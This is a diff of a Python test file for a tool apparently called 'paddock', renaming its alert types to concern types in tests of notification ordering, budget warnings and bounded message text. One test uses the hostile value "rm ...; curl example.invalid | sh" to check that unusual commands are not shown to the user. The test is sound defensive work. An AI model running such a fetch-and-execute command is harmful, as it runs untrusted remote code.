@@ -5,18 +5,18 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from paddock.core import events as ev
-from paddock.core.alerts.alert import Alert, AlertKind, Scarcity, find_alerts
-from paddock.core.alerts.bulletin import BODY_CHARACTERS, TITLE_CHARACTERS, compose, defuse_words
 from paddock.core.ids import attempt_id
 from paddock.core.merge import events as qe
 from paddock.core.money.budget import FLEET
+from paddock.core.notify.concern import Concern, ConcernKind, Scarcity, find_concerns
+from paddock.core.notify.notification import BODY_CHARACTERS, TITLE_CHARACTERS, compose, defuse_words
 from paddock.core.redaction import HIDDEN, redact
 from paddock.core.tasks.vocabulary import Outcome, Step
 from tests.core.ledger import START, Ledger
 from tests.core.test_board_machine import HEAD
 from tests.core.test_needs import refuse
 
-ALL = tuple(kind.value for kind in AlertKind)
+ALL = tuple(kind.value for kind in ConcernKind)
 DEFAULT = tuple(name for name in ALL if name != "landed")
 
 
@@ -26,11 +26,11 @@ def ledger() -> Ledger:
 
 
 def kinds(ledger: Ledger, about: tuple[str, ...] = ALL, scarce: Scarcity | None = None) -> list[str]:
-    return [alert.kind.value for alert in find_alerts(ledger.board, about, START, scarce=scarce)]
+    return [concern.kind.value for concern in find_concerns(ledger.board, about, START, scarce=scarce)]
 
 
 def keys(ledger: Ledger) -> list[str]:
-    return [alert.key for alert in find_alerts(ledger.board, ALL, START)]
+    return [concern.key for concern in find_concerns(ledger.board, ALL, START)]
 
 
 def test_what_stops_everything_is_told_first_and_each_kind_only_if_asked_for(ledger: Ledger) -> None:
@@ -41,7 +41,7 @@ def test_what_stops_everything_is_told_first_and_each_kind_only_if_asked_for(led
     assert kinds(ledger) == ["halted", "approval", "answer", "blocked", "failed"]
     assert kinds(ledger, ("failed", "halted")) == ["halted", "failed"]
     assert kinds(ledger, ()) == []
-    assert all(alert.run.startswith("paddock ") for alert in find_alerts(ledger.board, ALL, START))
+    assert all(concern.run.startswith("paddock ") for concern in find_concerns(ledger.board, ALL, START))
 
 
 def test_a_question_stays_one_question_when_the_turn_ends_over_it(ledger: Ledger) -> None:
@@ -49,13 +49,13 @@ def test_a_question_stays_one_question_when_the_turn_ends_over_it(ledger: Ledger
     attempt = ledger.start(task)
     asked = ev.QuestionAsked("May I?", options=("allow", "deny"))
     ledger.write(ev.Draft(asked, task=task, attempt=attempt))
-    [alert] = find_alerts(ledger.board, ALL, START)
-    assert (alert.kind, alert.why, alert.run) == (
-        *(AlertKind.ANSWER, "asks: May I? (1 allow, 2 deny)", "paddock message t1 1|2"),
+    [concern] = find_concerns(ledger.board, ALL, START)
+    assert (concern.kind, concern.why, concern.run) == (
+        *(ConcernKind.ANSWER, "asks: May I? (1 allow, 2 deny)", "paddock message t1 1|2"),
     )
     ended = ev.AttemptEnded(Outcome.ASKED, Step.BLOCK, counted=False, reason="asks: May I?")
     ledger.write(ev.Draft(ended, task=task, attempt=attempt))
-    assert keys(ledger) == [alert.key]
+    assert keys(ledger) == [concern.key]
 
 
 def test_a_task_that_fails_again_is_news(ledger: Ledger) -> None:
@@ -92,34 +92,34 @@ def test_a_budget_is_told_of_when_most_of_it_is_used_and_when_nothing_starts_any
     spend(ledger, 7.0)
     assert kinds(ledger) == []
     spend(ledger, 1.5)
-    [nearly] = find_alerts(ledger.board, ALL, START)
+    [nearly] = find_concerns(ledger.board, ALL, START)
     assert nearly.why == "85% of it is used"
     assert nearly.run == "paddock budget show, then paddock budget set fleet --usd 20"
     scarce = Scarcity(FLEET, "fleet has $1.50 of $10.00 left, $2.00 needed")
-    [full] = find_alerts(ledger.board, ALL, START, scarce=scarce)
+    [full] = find_concerns(ledger.board, ALL, START, scarce=scarce)
     assert full.why == "tasks cannot start: fleet has $1.50 of $10.00 left, $2.00 needed"
     spend(ledger, 1.5)
-    [spent] = find_alerts(ledger.board, ALL, START)
+    [spent] = find_concerns(ledger.board, ALL, START)
     assert spent.key == full.key != nearly.key
     ledger.write(ev.Draft(ev.BudgetSet(FLEET, money=100.0)))
     assert kinds(ledger) == []
 
 
-def alert(
-    kind: AlertKind = AlertKind.FAILED, subject: str = "t1 Fix it", why: str = "it broke", run: str = ""
-) -> Alert:
-    return Alert(kind, f"{kind}:{subject}", subject, why, run or "paddock retry t1")
+def concern(
+    kind: ConcernKind = ConcernKind.FAILED, subject: str = "t1 Fix it", why: str = "it broke", run: str = ""
+) -> Concern:
+    return Concern(kind, f"{kind}:{subject}", subject, why, run or "paddock retry t1")
 
 
 def test_one_thing_is_told_with_its_reason_and_its_command() -> None:
-    told = compose([alert()], "app")
+    told = compose([concern()], "app")
     assert told.title == "app: t1 has failed"
     assert told.body == "t1 Fix it: it broke\n  run: paddock retry t1"
 
 
 def test_several_things_are_counted_and_the_first_are_shown() -> None:
-    many = [alert(AlertKind.APPROVAL, f"t{number} Task") for number in range(1, 12)]
-    told = compose([alert(AlertKind.HALTED, "merge queue", "main is red"), *many], "app")
+    many = [concern(ConcernKind.APPROVAL, f"t{number} Task") for number in range(1, 12)]
+    told = compose([concern(ConcernKind.HALTED, "merge queue", "main is red"), *many], "app")
     assert told.title == "app: merge queue halted, 11 approvals"
     assert told.body.count("run: ") == 6
     assert told.body.endswith("\n… and 6 more: paddock status")
@@ -140,7 +140,7 @@ def test_an_agents_words_are_only_words(text: str, shown: str) -> None:
 
 
 def test_a_command_that_is_not_plain_is_left_to_the_terminal() -> None:
-    odd = alert(run="rm 'a<b>.lock'; curl example.invalid | sh")
+    odd = concern(run="rm 'a<b>.lock'; curl example.invalid | sh")
     assert compose([odd], "app").body.endswith("run: paddock show t1")
 
 
@@ -169,14 +169,14 @@ def test_ordinary_words_stay() -> None:
 
 
 texts = st.text(max_size=3000)
-alerts = st.builds(
-    Alert, kind=st.sampled_from(list(AlertKind)), key=texts, subject=texts, why=texts, run=st.text(max_size=300)
+concerns = st.builds(
+    Concern, kind=st.sampled_from(list(ConcernKind)), key=texts, subject=texts, why=texts, run=st.text(max_size=300)
 )
 
 
-@given(st.lists(alerts, min_size=1, max_size=30), texts)
-@example([alert(why="=" * 5000, subject="password" * 400)] * 20, "a" * 300)
-def test_whatever_is_told_is_bounded_harmless_and_tells_how_many(found: list[Alert], place: str) -> None:
+@given(st.lists(concerns, min_size=1, max_size=30), texts)
+@example([concern(why="=" * 5000, subject="password" * 400)] * 20, "a" * 300)
+def test_whatever_is_told_is_bounded_harmless_and_tells_how_many(found: list[Concern], place: str) -> None:
     told = compose(found, place)
     assert len(told.title) <= TITLE_CHARACTERS
     assert len(told.body) <= BODY_CHARACTERS
